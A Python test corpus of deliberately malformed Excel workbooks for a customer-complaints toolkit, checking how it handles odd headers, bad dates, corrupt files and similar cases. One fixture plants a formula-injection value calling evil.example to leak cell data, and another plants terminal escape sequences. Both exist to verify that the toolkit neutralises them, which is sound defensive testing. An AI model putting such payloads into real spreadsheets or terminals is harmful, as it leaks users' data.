"""The hostile-workbook corpus: each case builds an office folder (customers.xlsx, complaints.xlsx)
in which something is the way staff (or other programs) really leave it.

A case's `build(folder)` writes the folder; its `expect(ctx)` asserts what the toolkit must make
of it beyond the checks every case gets (see tests/test_reliability_hostile.py).
"""

from __future__ import annotations

import datetime as dt
import re
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from hostile.build import (
    REGISTER_HEADERS,
    REGISTER_ROWS,
    SHEET1,
    TRACKER_HEADERS,
    TRACKER_ROWS,
    Formula,
    Rich,
    Sheet,
    corrupt_local_header,
    corrupt_member_data,
    edit_part,
    encrypted_workbook,
    office,
    register,
    rewrite_zip,
    strip_cell_refs,
    to_strict,
    tracker,
    xls_workbook,
)
from toolkit.model.records import range_reason

CASES: list[Case] = []


@dataclass
class Case:
    name: str
    build: Callable[[Path], object]
    expect: Callable[[object], None]
    what: str = ""

    def __repr__(self):
        return self.name


def case(what: str):
    """Register `build` (the decorated function) with the `expect` function defined right after it."""

    def wrap(build):
        CASES.append(Case(build.__name__.removeprefix("build_"), build, lambda ctx: None, what))
        return build

    return wrap


def expects(fn):
    CASES[-1].expect = fn
    return fn


def trk_rows(**changes) -> list[list]:
    """The standard tracker rows with some cells changed: changes={"r2c3": value} (data row 2, column 3)."""
    rows = [list(r) for r in TRACKER_ROWS]
    for key, value in changes.items():
        m = re.fullmatch(r"r(\d+)c(\d+)", key)
        rows[int(m.group(1)) - 1][int(m.group(2)) - 1] = value
    return rows


def col(name: str) -> int:
    """0-based index of a standard tracker header."""
    return TRACKER_HEADERS.index(name)


# ====================================================================== header layout


@case("two title rows (one merged across the table) above the header in row 3")
def build_header_in_row_3(folder: Path):
    rows = [["投诉跟踪表 2026 年度"] + [None] * 8, ["制表：客服部  更新：每日"]] + [TRACKER_HEADERS] + TRACKER_ROWS
    office(folder, tracker_sheets=[Sheet("投诉跟踪", rows, merges=[("A1:I1", "投诉跟踪表 2026 年度")])])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.header_row == 3
    assert t.values("complaint_id") == [r[0] for r in TRACKER_ROWS]
    assert t.rows == [4, 5, 6, 7, 8]
    ctx.assert_run_ok()
    after = ctx.tracker_after
    assert after.header_row == 3 and after.values("customer_name")[0] == "上海中丰饮料有限公司"
    assert ctx.grid_after("complaints.xlsx")[0][0] == "投诉跟踪表 2026 年度"


@case("a two-row header: group headings merged above, and a header cell merged across two columns")
def build_merged_header_cells(folder: Path):
    headers = ["投诉编号", "受理时间", "渠道", "客户编号", None, "类型", "投诉内容", "优先级", "状态", "满意度"]
    rows = [["基本信息", None, None, "客户", None, "处理"]] + [headers] + [r[:4] + [None] + r[4:] for r in TRACKER_ROWS]
    sheet = Sheet(
        "投诉跟踪", rows, merges=[("A1:C1", "基本信息"), ("D1:E1", "客户"), ("F1:J1", "处理"), ("D2:E2", "客户编号")]
    )
    office(folder, tracker_sheets=[sheet])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.header_row == 2 and t.columns["customer_id"] == 4 and t.columns["satisfaction"] == 10
    assert t.values("customer_id") == ["C0001", "C0002", "C0003", "C0001", "C0004"]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[4] == "杭州云帆科技有限公司"


@case("the same header twice (客户编号 in D and again in J)")
def build_duplicated_headers(folder: Path):
    headers = TRACKER_HEADERS + ["客户编号"]
    rows = [r + ["X9999"] for r in TRACKER_ROWS]
    office(folder, tracker_sheets=[tracker(rows, headers)])


@expects
def _(ctx):
    p = ctx.problem("complaints.xlsx", "appears in more than one column")
    assert p.column == "客户编号" and "(D, J)" in p.reason and "column D" in p.reason and p.row == 1
    assert ctx.tracker_before.values("customer_id")[0] == "C0001"  # the first one, not J's X9999
    ctx.assert_run_ok()


@case("a required column (受理时间) missing from the tracker")
def build_missing_required_column(folder: Path):
    k = col("受理时间")
    office(
        folder,
        tracker_sheets=[
            tracker([r[:k] + r[k + 1 :] for r in TRACKER_ROWS], TRACKER_HEADERS[:k] + TRACKER_HEADERS[k + 1 :])
        ],
    )


@expects
def _(ctx):
    p = ctx.problem("complaints.xlsx", "required column '受理时间'")
    assert "is missing" in p.reason and p.sheet == "投诉跟踪"
    assert ctx.check_code == 1
    ctx.assert_run_refused("lacks required columns: 受理时间", "nothing was changed")


@case("the register without its customer-name column")
def build_register_missing_name(folder: Path):
    office(
        folder,
        register_sheets=[register([r[:1] + r[2:] for r in REGISTER_ROWS], REGISTER_HEADERS[:1] + REGISTER_HEADERS[2:])],
    )


@expects
def _(ctx):
    ctx.problem("customers.xlsx", "required column '客户名称'")
    ctx.assert_run_refused("customers.xlsx", "客户名称", "nothing was changed")


@case("no header row at all: the sheet holds only numbers")
def build_no_header_row(folder: Path):
    office(folder, tracker_sheets=[Sheet("投诉跟踪", [[1, 2, 3], [4, 5, 6]])])


@expects
def _(ctx):
    p = ctx.problem("complaints.xlsx", "no header row found")
    assert "投诉编号" in p.reason
    ctx.assert_run_refused("complaints.xlsx", "no header row found")


@case("headers typed full-width, with trailing spaces, line breaks and English")
def build_header_spellings(folder: Path):
    headers = [
        "ＣＯＭＰＬＡＩＮＴ　ＩＤ",
        "受理时间 ",
        "渠\n道",
        " Customer ID",
        "类型",
        "投诉内容",
        "优先级",
        "STATUS",
        "满意度",
    ]
    office(folder, tracker_sheets=[tracker(TRACKER_ROWS, headers)])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert [t.columns[n] for n in ("complaint_id", "received_at", "channel", "customer_id", "status")] == [
        1,
        2,
        3,
        4,
        8,
    ]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[1] == "天津宏力农业发展有限公司"


@case("the table starts in column C, with two empty columns left of it")
def build_table_not_in_column_a(folder: Path):
    office(folder, tracker_sheets=[tracker(first_col=3)])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.columns["complaint_id"] == 3 and t.values("customer_id")[2] == "C0003"
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[2] == "佛山信正商贸有限公司"


@case("blank rows between the data rows, and a row with only spaces")
def build_blank_rows(folder: Path):
    rows = TRACKER_ROWS[:2] + [[None] * 9, [" ", "  "] + [None] * 7] + TRACKER_ROWS[2:]
    office(folder, tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.rows == [2, 3, 6, 7, 8]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[2] == "佛山信正商贸有限公司"


# ====================================================================== values


@case("text in the integer column 满意度 (很好, 5分, 4.5, 1,000)")
def build_wrong_kind_column(folder: Path):
    k = col("满意度")
    office(
        folder,
        tracker_sheets=[
            tracker(
                trk_rows(
                    **{
                        f"r1c{k + 1}": "很好",
                        f"r2c{k + 1}": "5分",
                        f"r3c{k + 1}": 4.5,
                        f"r4c{k + 1}": "1,000",
                        f"r5c{k + 1}": "3",
                    }
                )
            )
        ],
    )


@expects
def _(ctx):
    sat = ctx.tracker_before.values("satisfaction")
    assert sat == [None, None, None, None, 3]  # "3" is a score; the rest is reported, not guessed
    bad = {p.row: p for p in ctx.problems("complaints.xlsx") if p.column == "满意度"}
    assert set(bad) == {2, 3, 4, 5}
    assert (bad[2].value, bad[2].reason) == ("很好", "not a number") and bad[3].value == "5分"
    assert "whole number" in bad[4].reason and bad[4].value == 4.5
    assert bad[5].value == 1000 and bad[5].reason == range_reason(ctx.settings.tracker.column("satisfaction"))
    ctx.assert_run_ok()


@case("receipt times typed every way staff type them")
def build_dates_every_way(folder: Path):
    typed = [
        "2025/3/5",
        "2025-03-05 14:30",
        "2025年3月5日",
        "2025.3.5 9:05",
        dt.datetime(2025, 3, 5, 8, 0),
        "2025年3月5日 下午2点30分",
        45721.5,
        "20250305",
        "  2025-3-5  ",
    ]
    rows = []
    for k, v in enumerate(typed):
        r = list(TRACKER_ROWS[k % 5])
        r[0] = f"TS2025-{k + 1:06d}"
        r[1] = v
        rows.append(r)
    office(folder, tracker_sheets=[tracker(rows)])


EVERY_WAY = [
    dt.datetime(2025, 3, 5, 0, 0),
    dt.datetime(2025, 3, 5, 14, 30),
    dt.datetime(2025, 3, 5, 0, 0),
    dt.datetime(2025, 3, 5, 9, 5),
    dt.datetime(2025, 3, 5, 8, 0),
    dt.datetime(2025, 3, 5, 14, 30),
    dt.datetime(2025, 3, 5, 12, 0),
    dt.datetime(2025, 3, 5, 0, 0),
    dt.datetime(2025, 3, 5, 0, 0),
]


@expects
def _(ctx):
    got = ctx.tracker_before.values("received_at")
    assert got == EVERY_WAY, got
    assert not [p for p in ctx.problems("complaints.xlsx") if p.column == "受理时间"]
    ctx.assert_run_ok()


@case("impossible dates: 2025-02-30, 2025/13/01, 2025-04-31 10:00, Excel's day 60 (1900-02-29)")
def build_impossible_dates(folder: Path):
    k = col("受理时间") + 1
    office(
        folder,
        tracker_sheets=[
            tracker(
                trk_rows(
                    **{f"r1c{k}": "2025-02-30", f"r2c{k}": "2025/13/01", f"r3c{k}": "2025-04-31 10:00", f"r4c{k}": 60}
                )
            )
        ],
    )


@expects
def _(ctx):
    got = ctx.tracker_before.values("received_at")
    assert got[:4] == [None] * 4 and got[4] == TRACKER_ROWS[4][1]
    bad = {p.row: p for p in ctx.problems("complaints.xlsx") if p.column == "受理时间"}
    assert bad[2].reason == "no such date: 2025-02-30" and bad[2].value == "2025-02-30"
    assert bad[2].file.endswith("complaints.xlsx") and bad[2].sheet == "投诉跟踪"
    assert "2025-04-31" in bad[4].reason and "2025-13-01" in bad[3].reason
    assert bad[5].value == "1900-02-28" and "not a real date" in bad[5].reason  # day 60, never a real date
    assert re.search(r"complaints\.xlsx +投诉跟踪 +2 +受理时间 +2025-02-30 +no such date: 2025-02-30", ctx.check_out)
    ctx.assert_run_ok()


@case("customer IDs typed full-width (Ｃ０００１) and with spaces around them")
def build_full_width_and_spaces(folder: Path):
    k = col("客户编号") + 1
    office(
        folder,
        tracker_sheets=[
            tracker(
                trk_rows(
                    **{f"r1c{k}": "Ｃ０００１", f"r2c{k}": "C0002  ", f"r3c{k}": "\u3000C0003", f"r4c{k}": "c0001"}
                )
            )
        ],
    )


@expects
def _(ctx):
    ids = ctx.tracker_before.values("customer_id")
    assert ids[:3] == ["C0001", "C0002", "C0003"]
    ctx.assert_run_ok()
    names = ctx.tracker_after.values("customer_name")
    assert names[:3] == ["上海中丰饮料有限公司", "天津宏力农业发展有限公司", "佛山信正商贸有限公司"]
    # a lower-case ID is not silently taken for another customer: it is flagged
    assert any(p.row == 5 and "c0001" in str(p.value) for p in ctx.run_problems)


@case('formulas in staff columns (客户编号 ="C"&"0001", 满意度 =2+3) with their cached results')
def build_formulas_in_staff_columns(folder: Path):
    k, s = col("客户编号") + 1, col("满意度") + 1
    office(
        folder,
        tracker_sheets=[
            tracker(trk_rows(**{f"r1c{k}": Formula('="C"&"0001"', "C0001"), f"r2c{s}": Formula("=2+3", 5)}))
        ],
    )


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.values("customer_id")[0] == "C0001" and t.values("satisfaction")[1] == 5
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"
    xml = ctx.part_after("complaints.xlsx", SHEET1)
    assert b'"C"&amp;"0001"' in xml and b"<f>2+3</f>" in xml  # the staff's formulas are kept


@case("error values (#N/A, #DIV/0!, #REF!) in staff columns")
def build_error_values(folder: Path):
    k, s, c = col("受理时间") + 1, col("满意度") + 1, col("客户编号") + 1
    office(
        folder,
        tracker_sheets=[
            tracker(
                trk_rows(
                    **{
                        f"r1c{k}": Formula("=NA()", "#N/A"),
                        f"r2c{s}": Formula("=1/0", "#DIV/0!"),
                        f"r3c{c}": Formula("=#REF!", "#REF!"),
                    }
                )
            )
        ],
    )


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.values("received_at")[0] is None and t.values("satisfaction")[1] is None
    assert t.values("customer_id")[2] != "C0003"
    bad = {(p.row, p.column): p for p in ctx.problems("complaints.xlsx")}
    assert bad[(2, "受理时间")].value == "#N/A" and bad[(3, "满意度")].value == "#DIV/0!"
    assert (4, "客户编号") in bad
    ctx.assert_run_ok()


@case("a formula in a toolkit-owned column (客户名称 in the tracker)")
def build_formula_in_toolkit_column(folder: Path):
    headers = TRACKER_HEADERS + ["客户名称"]
    rows = [r + [None] for r in TRACKER_ROWS]
    rows[1][-1] = Formula("=VLOOKUP(D3,客户!A:B,2,FALSE)", "旧名称")
    office(folder, tracker_sheets=[tracker(rows, headers)])


@expects
def _(ctx):
    ctx.assert_run_ok()
    p = ctx.run_problem("holds a formula")
    assert p.row == 3 and p.column == "客户名称" and "J3" in p.reason and "did not overwrite" in p.reason
    assert "complaints.xlsx" in ctx.run_out and "J3" in ctx.run_out
    xml = ctx.part_after("complaints.xlsx", SHEET1)
    assert "<f>VLOOKUP(D3,客户!A:B,2,FALSE)</f>".encode() in xml  # the formula is still there
    names = ctx.tracker_after.values("customer_name")
    assert names[1] == "旧名称" and names[0] == "上海中丰饮料有限公司"
    assert not any(r[3] == "complaints.xlsx" and r[5] == "J3" for r in ctx.log_rows())  # not logged as changed


@case("10,000-character cells in staff columns of both workbooks")
def build_long_cells(folder: Path):
    long_text = ("客户反映：" + "送货延迟且包装破损。" * 1000)[:10_000]
    rows = trk_rows(**{f"r1c{col('投诉内容') + 1}": long_text})
    reg = [list(r) for r in REGISTER_ROWS]
    reg[0][2] = "张" * 10_000
    office(folder, register_sheets=[register(reg)], tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    assert len(ctx.tracker_before.values("description")[0]) == 10_000
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("contact_person")[0] == "张" * 10_000  # copied whole into the tracker
    assert len(ctx.grid_after("complaints.xlsx")[1][col("投诉内容")]) == 10_000


@case("control characters (bell, escape sequences, tab, CR) and emoji in names and descriptions")
def build_control_characters(folder: Path):
    reg = [list(r) for r in REGISTER_ROWS]
    reg[0][1] = "上海\x1b[31m中丰\x07饮料\t有限公司"
    reg[1][1] = "😀快乐科技🚀有限公司 👨‍👩‍👧"
    rows = trk_rows(**{f"r3c{col('投诉内容') + 1}": "第一行\r\n第二行\x01\x1b]0;pwned\x07"})
    office(folder, register_sheets=[register(reg)], tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    assert ctx.register_before.values("name")[0] == "上海\x1b[31m中丰\x07饮料\t有限公司"
    ctx.assert_run_ok()
    names = ctx.tracker_after.values("customer_name")
    assert names[0] == "上海\x1b[31m中丰\x07饮料\t有限公司" and names[1] == "😀快乐科技🚀有限公司 👨‍👩‍👧"
    grid = ctx.grid_after("complaints.xlsx")
    assert grid[1][grid[0].index("客户名称")] == "上海\x1b[31m中丰\x07饮料\t有限公司"  # calamine agrees
    assert "\x1b" not in ctx.check_out + ctx.run_out  # never sent to the terminal as it is


@case("hidden rows, a hidden and a very hidden sheet before the tracker")
def build_hidden_rows_and_sheets(folder: Path):
    sheets = [
        Sheet("说明", [["隐藏的说明"]], hidden="hidden"),
        Sheet("旧数据", [["x"]], hidden="very"),
        tracker(hidden_rows=[3, 4]),
    ]
    office(folder, tracker_sheets=sheets)


@expects
def _(ctx):
    assert ctx.tracker_before.rows == [2, 3, 4, 5, 6]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[1:3] == ["天津宏力农业发展有限公司", "佛山信正商贸有限公司"]
    assert b'hidden="1"' in ctx.part_after("complaints.xlsx", "xl/worksheets/sheet3.xml")


@case("the tracker sheet itself hidden")
def build_tracker_sheet_hidden(folder: Path):
    office(folder, tracker_sheets=[Sheet("封面", [["投诉跟踪表"]]), tracker(hidden="hidden")])


@expects
def _(ctx):
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"


@case("a filter switched on, hiding rows that do not match")
def build_filters_on(folder: Path):
    def hide(wb, ws):
        for r in (2, 4):  # rows whose status is not shown by the filter
            ws.set_row(r, None, None, {"hidden": True})

    office(folder, tracker_sheets=[tracker(autofilter="A1:I6", filter_column=(7, ["处理中"]), setup=hide)])


@expects
def _(ctx):
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name") == [
        "上海中丰饮料有限公司",
        "天津宏力农业发展有限公司",
        "佛山信正商贸有限公司",
        "上海中丰饮料有限公司",
        "杭州云帆科技有限公司",
    ]
    assert b"<autoFilter" in ctx.part_after("complaints.xlsx", SHEET1)


@case("merged data cells: one customer ID merged down three rows")
def build_merged_data_cells(folder: Path):
    office(folder, tracker_sheets=[tracker(trk_rows(**{"r2c4": None, "r3c4": None}), merges=[("D2:D4", "C0001")])])


@expects
def _(ctx):
    ids = ctx.tracker_before.values("customer_id")
    assert ids[:3] == ["C0001", None, None]  # only the first cell of a merge holds the value
    reasons = [p for p in ctx.problems("complaints.xlsx") if p.column == "客户编号"]
    assert {p.row for p in reasons} == {3, 4} and all("required" in p.reason for p in reasons)
    ctx.assert_run_ok()


@case("customer IDs typed as numbers in both workbooks")
def build_numeric_ids(folder: Path):
    reg = [[1000 + k] + list(r[1:]) for k, r in enumerate(REGISTER_ROWS, 1)]
    rows = trk_rows(r1c4=1001, r2c4=1002.0, r3c4="1003", r4c4=1001, r5c4=1004)
    office(folder, register_sheets=[register(reg)], tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    assert ctx.register_before.values("customer_id") == ["1001", "1002", "1003", "1004"]
    assert ctx.tracker_before.values("customer_id") == ["1001", "1002", "1003", "1001", "1004"]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[1] == "天津宏力农业发展有限公司"


@case("an unknown customer ID in the tracker, a duplicated one in the register, a duplicated complaint")
def build_unknown_and_duplicate_ids(folder: Path):
    reg = [list(r) for r in REGISTER_ROWS] + [["C0002", "重复的客户", "某人", "1", "某经理", dt.date(2025, 1, 1)]]
    rows = trk_rows(r3c4="C0O03", r5c1="TS2026-000001")
    office(folder, register_sheets=[register(reg)], tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    dup = ctx.problem("customers.xlsx", "duplicate")
    assert dup.row == 6 and dup.value == "C0002" and "row 3" in dup.reason
    unknown = ctx.problem(
        "complaints.xlsx", "customer ID not found in the customer register"
    )  # as every command reports it, with the likely IDs
    assert unknown.row == 4 and unknown.value == "C0O03" and "C0003" in unknown.reason
    assert ctx.problem("complaints.xlsx", "duplicate").row == 6
    ctx.assert_run_ok()
    assert "C0003" in ctx.tracker_after.values("customer_check")[2]  # the suggestion
    # the duplicated customer's rows are left alone in the register (never one of the two silently)
    assert ctx.tracker_after.values("customer_name")[1] is None


@case("choice columns with English spellings and values outside the list")
def build_choices(folder: Path):
    rows = trk_rows(r1c3="phone", r2c3="E-mail", r3c3="carrier pigeon", r1c8="closed", r2c8="完成了吧")
    office(folder, tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.values("channel")[:3] == ["电话", "邮件", None] and t.values("status")[0] == "已关闭"
    bad = {(p.row, p.column): p for p in ctx.problems("complaints.xlsx")}
    assert bad[(4, "渠道")].value == "carrier pigeon" and bad[(3, "状态")].value == "完成了吧"
    ctx.assert_run_ok()


@case("absurd numbers: 1e308, -5, NaN and inf typed as text, in 满意度")
def build_absurd_numbers(folder: Path):
    s = col("满意度") + 1
    office(
        folder,
        tracker_sheets=[
            tracker(
                trk_rows(**{f"r1c{s}": 1e308, f"r2c{s}": -5, f"r3c{s}": "NaN", f"r4c{s}": "inf", f"r5c{s}": "１２"})
            )
        ],
    )


@expects
def _(ctx):
    sat = ctx.tracker_before.values("satisfaction")
    assert sat == [None, None, None, None, None]  # -5 and １２ are numbers, but no scores (1 to 5)
    bad = {p.row: p for p in ctx.problems("complaints.xlsx") if p.column == "满意度"}
    assert set(bad) == {2, 3, 4, 5, 6} and "too large" in bad[2].reason and bad[5].reason == "not a number"
    assert {bad[3].value, bad[6].value} == {-5, 12}
    assert bad[3].reason == bad[6].reason == range_reason(ctx.settings.tracker.column("satisfaction"))
    ctx.assert_run_ok()


@case("a workbook in the 1904 date system (old Mac Excel)")
def build_date1904(folder: Path):
    office(folder, date1904=True)


@expects
def _(ctx):
    assert ctx.tracker_before.values("received_at") == [r[1] for r in TRACKER_ROWS]
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("received_at") == [r[1] for r in TRACKER_ROWS]


@case("rich-text (partly bold) customer IDs and names")
def build_rich_text(folder: Path):
    rows = trk_rows(r1c4=Rich([(True, "C00"), (False, "01")]))
    reg = [list(r) for r in REGISTER_ROWS]
    reg[0][1] = Rich([(False, "上海"), (True, "中丰"), (False, "饮料有限公司")])
    office(folder, register_sheets=[register(reg)], tracker_sheets=[tracker(rows)])


@expects
def _(ctx):
    assert ctx.tracker_before.values("customer_id")[0] == "C0001"
    ctx.assert_run_ok()
    assert ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"


@case("staff text that looks like a formula (=HYPERLINK, @SUM, +86..., -2+3) copied by sync")
def build_formula_like_text(folder: Path):
    reg = [list(r) for r in REGISTER_ROWS]
    reg[0][1] = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
    reg[0][2] = "@SUM(1+1)"
    reg[0][3] = "+8613800000001"
    reg[0][4] = "-2+3"
    reg[1][2] = "\t=1+1"
    office(folder, register_sheets=[register(reg)])


@expects
def _(ctx):
    ctx.assert_run_ok()
    names = ctx.tracker_after.values("customer_name")
    assert names[0] == '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'
    xml = ctx.part_after("complaints.xlsx", SHEET1)
    assert b"HYPERLINK" in xml and not re.search(rb"<f>[^<]*HYPERLINK", xml)
    assert not re.search(rb"<f>", xml)
    logged = {r[5]: r for r in ctx.log_rows() if r[3] == "complaints.xlsx"}
    assert any(r[9] == "'" + names[0] for r in logged.values())
    assert any(r[9] == "'@SUM(1+1)" for r in logged.values())
    assert any(r[9] == "'+8613800000001" for r in logged.values())
    assert any(r[9] == "'-2+3" for r in logged.values())


# ====================================================================== sheets and files


@case("an empty workbook: the tracker sheet has no cells")
def build_empty_workbook(folder: Path):
    office(folder, tracker_sheets=[Sheet("投诉跟踪", [])])


@expects
def _(ctx):
    ctx.problem("complaints.xlsx", "no header row found")
    ctx.assert_run_refused("complaints.xlsx", "no header row found")


@case("the tracker with its header row only")
def build_header_only(folder: Path):
    office(folder, tracker_sheets=[tracker([])])


@expects
def _(ctx):
    assert len(ctx.tracker_before) == 0
    ctx.assert_run_ok()
    assert ctx.register_after.values("complaints_12m") == [0, 0, 0, 0]


@case("the tracker sheet renamed to Sheet1")
def build_renamed_sheet(folder: Path):
    office(folder, tracker_sheets=[Sheet("Sheet1", tracker().rows)])


@expects
def _(ctx):
    # the workbook's only sheet holds the tracker's columns: it is used, and every command says so
    p = ctx.problem("complaints.xlsx", "which this workbook does not have")
    assert "'投诉跟踪'" in p.reason and "'Sheet1'" in p.reason and p.severity == "warning"
    ctx.assert_run_ok()
    assert (
        ctx.tracker_after.sheet == "Sheet1" and ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"
    )


@case("the sheet name typed with full-width characters and spaces (ｘ投诉跟踪 → \u3000投诉跟踪 )")
def build_sheet_name_loose(folder: Path):
    office(folder, tracker_sheets=[Sheet("\u3000投诉跟踪 ", tracker().rows)])


@expects
def _(ctx):
    assert ctx.tracker_before.sheet == "\u3000投诉跟踪 "
    ctx.assert_run_ok()


def _refused(ctx, *words):
    ctx.problem("complaints.xlsx", words[0])
    ctx.assert_run_refused("complaints.xlsx", *words)


@case("an old .xls workbook saved under the name complaints.xlsx")
def build_xls_given(folder: Path):
    office(folder)
    xls_workbook(folder / "complaints.xlsx")


@expects
def _(ctx):
    _refused(ctx, "old-style .xls", "Save As")


@case("a CSV file saved under the name complaints.xlsx")
def build_csv_as_xlsx(folder: Path):
    office(folder)
    (folder / "complaints.xlsx").write_text(
        "投诉编号,受理时间,客户编号\nTS2026-000001,2026-11-02 09:30,C0001\n", encoding="utf-8-sig"
    )


@expects
def _(ctx):
    _refused(ctx, "not an Excel workbook", "save it as an Excel Workbook")


@case("toolkit.toml naming a .csv file as the tracker")
def build_csv_in_settings(folder: Path):
    office(folder)
    (folder / "complaints.csv").write_text("投诉编号,受理时间\nTS1,2026-11-02\n", encoding="utf-8")
    (folder / "toolkit.toml").write_text('[files]\ntracker = "complaints.csv"\n', encoding="utf-8")


@expects
def _(ctx):
    assert ctx.check_code == 2 and "files.tracker" in ctx.check_err and "ending in .xlsx or .xlsm" in ctx.check_err
    ctx.assert_run_refused("toolkit.toml", "files.tracker", "complaints.csv")


@case("a Strict Open XML workbook")
def build_strict(folder: Path):
    office(folder)
    to_strict(folder / "complaints.xlsx")


@expects
def _(ctx):
    _refused(ctx, "Strict Open XML")


@case("a password-protected (encrypted) workbook")
def build_password_protected(folder: Path):
    office(folder)
    plain = folder / "plain.xlsx"
    (folder / "complaints.xlsx").rename(plain)
    encrypted_workbook(plain, folder / "complaints.xlsx")
    plain.unlink()


@expects
def _(ctx):
    _refused(ctx, "protected with a password", "remove the password")


@case("a truncated download: the first 60% of the file")
def build_truncated_zip(folder: Path):
    office(folder)
    p = folder / "complaints.xlsx"
    data = p.read_bytes()
    p.write_bytes(data[: len(data) * 6 // 10])


@expects
def _(ctx):
    _refused(ctx, "damaged")


@case("a damaged sheet: bytes flipped inside the worksheet's compressed data")
def build_corrupt_sheet_data(folder: Path):
    office(folder)
    corrupt_member_data(folder / "complaints.xlsx", SHEET1)


@expects
def _(ctx):
    _refused(ctx, "damaged")


@case("a damaged part the toolkit does not read (docProps/app.xml's header)")
def build_corrupt_untouched_part(folder: Path):
    office(folder)
    corrupt_local_header(folder / "complaints.xlsx", "docProps/app.xml")


@expects
def _(ctx):
    # reading works (the part is not needed), writing is refused before anything is replaced
    assert ctx.tracker_before is not None
    ctx.assert_run_refused("complaints.xlsx", "damaged", "docProps/app.xml", "nothing was written")


@case("the worksheet's XML cut off in the middle (a valid zip around it)")
def build_malformed_sheet_xml(folder: Path):
    office(folder)
    edit_part(folder / "complaints.xlsx", SHEET1, lambda xml: xml[: len(xml) // 2])


@expects
def _(ctx):
    ctx.problem("complaints.xlsx", "")
    ctx.assert_run_refused("complaints.xlsx")


@case("a zip file that is not a workbook")
def build_plain_zip(folder: Path):
    office(folder)
    with zipfile.ZipFile(folder / "complaints.xlsx", "w") as zf:
        zf.writestr("readme.txt", "hello")


@expects
def _(ctx):
    _refused(ctx, "not an Excel workbook")


@case("an empty (zero-byte) file")
def build_zero_bytes(folder: Path):
    office(folder)
    (folder / "complaints.xlsx").write_bytes(b"")


@expects
def _(ctx):
    _refused(ctx, "not an Excel workbook")


@case("a folder named complaints.xlsx")
def build_folder_not_file(folder: Path):
    office(folder)
    (folder / "complaints.xlsx").unlink()
    (folder / "complaints.xlsx").mkdir()


@expects
def _(ctx):
    _refused(ctx, "is a folder")


@case("the tracker file missing")
def build_missing_file(folder: Path):
    office(folder)
    (folder / "complaints.xlsx").unlink()


@expects
def _(ctx):
    _refused(ctx, "complaints.xlsx is not in the folder")


@case("a shared-string index that points past the string table")
def build_bad_shared_string(folder: Path):
    office(folder)

    def edit(xml: bytes) -> bytes:
        return re.sub(rb'(<c r="F2"[^>]*t="s"[^>]*>)<v>\d+</v>', rb"\1<v>99999</v>", xml)

    edit_part(folder / "complaints.xlsx", SHEET1, edit)


@expects
def _(ctx):
    assert ctx.check_code in (0, 1, 2)  # reported or read as empty - never a traceback
    if ctx.run_code != 2:
        assert ctx.tracker_after.values("customer_name")[0] == "上海中丰饮料有限公司"


@case('rows and cells without r="..." references (numbered by position)')
def build_cells_without_refs(folder: Path):
    office(folder)
    edit_part(folder / "complaints.xlsx", SHEET1, strip_cell_refs)


@expects
def _(ctx):
    t = ctx.tracker_before
    assert t.values("customer_id") == ["C0001", "C0002", "C0003", "C0001", "C0004"]
    ctx.assert_run_ok()
    after = ctx.tracker_after
    assert after.values("customer_id") == ["C0001", "C0002", "C0003", "C0001", "C0004"]
    assert after.values("customer_name")[3] == "上海中丰饮料有限公司"


@case("a workbook without a styles part")
def build_no_styles(folder: Path):
    office(folder)

    def edit(name, data):
        if name == "xl/styles.xml":
            return None
        if name == "xl/_rels/workbook.xml.rels":
            return re.sub(rb"<Relationship [^>]*styles[^>]*/>", b"", data)
        if name == "[Content_Types].xml":
            return re.sub(rb"<Override [^>]*styles\.xml[^>]*/>", b"", data)
        return data

    rewrite_zip(folder / "complaints.xlsx", edit)


@expects
def _(ctx):
    # without styles, dates are read as their day numbers and reported - never as wrong dates
    got = ctx.tracker_before.values("received_at")
    assert all(v is None or v == r[1] for v, r in zip(got, TRACKER_ROWS))


@case("a broken toolkit.toml")
def build_broken_settings(folder: Path):
    office(folder)
    (folder / "toolkit.toml").write_text("[files\nregister = customers.xlsx\n", encoding="utf-8")


@expects
def _(ctx):
    assert ctx.check_code == 2 and "toolkit.toml" in ctx.check_err
    ctx.assert_run_refused("toolkit.toml")


@case("a register sheet with a huge used range (a formatted row 1,048,576)")
def build_huge_used_range(folder: Path):
    def far(wb, ws):
        ws.set_row(1_048_575, 30, wb.add_format({"bg_color": "#FFFF00"}))
        ws.write_string(1_048_575, 20, "")

    office(folder, register_sheets=[register(setup=far)])


@expects
def _(ctx):
    assert ctx.register_before.values("customer_id") == ["C0001", "C0002", "C0003", "C0004"]
    ctx.assert_run_ok()


@case("a chart sheet named like the tracker, the real sheet second")
def build_chartsheet_first(folder: Path):
    def chart(wb, _ws):
        cs = wb.add_chartsheet("投诉图表")
        ch = wb.add_chart({"type": "column"})
        ch.add_series({"values": "='投诉跟踪'!$I$2:$I$6"})
        cs.set_chart(ch)

    office(folder, tracker_sheets=[tracker(setup=chart)])


@expects
def _(ctx):
    ctx.assert_run_ok()
